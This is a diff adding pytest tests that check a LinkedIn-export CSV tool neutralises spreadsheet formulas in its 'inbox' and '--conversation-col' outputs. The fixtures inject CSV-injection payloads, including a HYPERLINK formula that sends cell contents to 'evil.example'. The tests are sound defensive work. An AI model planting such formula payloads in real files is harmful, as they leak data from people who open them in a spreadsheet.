@@ -3,6 +3,8 @@ read with one line and exit code 2, and never shifts, loses or leaks what it rea
 
 from __future__ import annotations
 
+import csv
+import shutil
 from pathlib import Path
 
 from click.testing import Result
@@ -42,3 +44,55 @@ def test_trailing_delimiter_is_refused_by_every_reader(tmp_path: Path) -> None:
         assert "more fields than the header" in line
     assert out.read_text(encoding="utf-8") == "sentinel\n"
     assert not (tmp_path / "m.npz").exists()
+
+
+# -- finding 3: formulas are neutralised in every CSV that inbox and --conversation-col write --
+EXPORT = Path(__file__).resolve().parents[1] / "examples" / "linkedin-export"
+FORMULAS = ("=HYPERLINK(", "=1+1", "@SUM(", "+CMD", "-2+3")
+
+
+def _no_formula_cell(path: Path) -> list[list[str]]:
+    with path.open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.reader(fh))
+    bad = [cell for row in rows for cell in row if cell and cell[0] in "=+-@\t\r"
+           and not cell.lstrip("+-").replace(".", "", 1).isdigit()]
+    assert not bad, (path.name, bad[:5])
+    return rows
+
+
+def test_inbox_outputs_neutralise_formulas(tmp_path: Path) -> None:
+    src = tmp_path / "fx"
+    src.mkdir()
+    shutil.copy(EXPORT / "Profile.csv", src / "Profile.csv")
+    with (EXPORT / "messages.csv").open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.reader(fh))
+    head = rows[0]
+    first = rows[1]
+    first[head.index("CONTENT")] = '=HYPERLINK("http://evil.example/?"&A1,"Click") ' \
+        "add me on whatsapp"
+    first[head.index("CONVERSATION TITLE")] = "=1+1 title"
+    first[head.index("FROM")] = "@SUM(1+1) " + first[head.index("FROM")]
+    with (src / "messages.csv").open("w", encoding="utf-8", newline="") as fh:
+        csv.writer(fh).writerows(rows)
+    out = tmp_path / "out"
+    result = run("inbox", src / "messages.csv", "-o", out, "-q", "--me", "Claire Dubois")
+    assert result.exit_code == 0, result.stderr
+    messages = _no_formula_cell(out / "messages.csv")
+    conversations = _no_formula_cell(out / "conversations.csv")
+    text = "\n".join(",".join(r) for r in messages + conversations)
+    for shown in ("'=HYPERLINK(", "'=1+1 title", "'@SUM(1+1)"):
+        assert shown in text, shown
+
+
+def test_conversation_col_output_neutralises_formulas(tmp_path: Path) -> None:
+    src = tmp_path / "c.csv"
+    src.write_text('conv,message\n"=HYPERLINK(""http://evil.example"",""x"")",add me on whatsapp\n'
+                   "@evil,hello\n", encoding="utf-8")
+    out = tmp_path / "out.csv"
+    result = run("score", src, "--conversation-col", "conv", "-q", "-o", out)
+    assert result.exit_code == 0, result.stderr
+    rows = _no_formula_cell(out)
+    ids = {r[0] for r in rows[1:]}
+    assert ids == {"'=HYPERLINK(\"http://evil.example\",\"x\")", "'@evil"}
+    stdout = run("score", src, "--conversation-col", "conv", "-q")
+    assert stdout.exit_code == 0 and "'=HYPERLINK(" in stdout.stdout
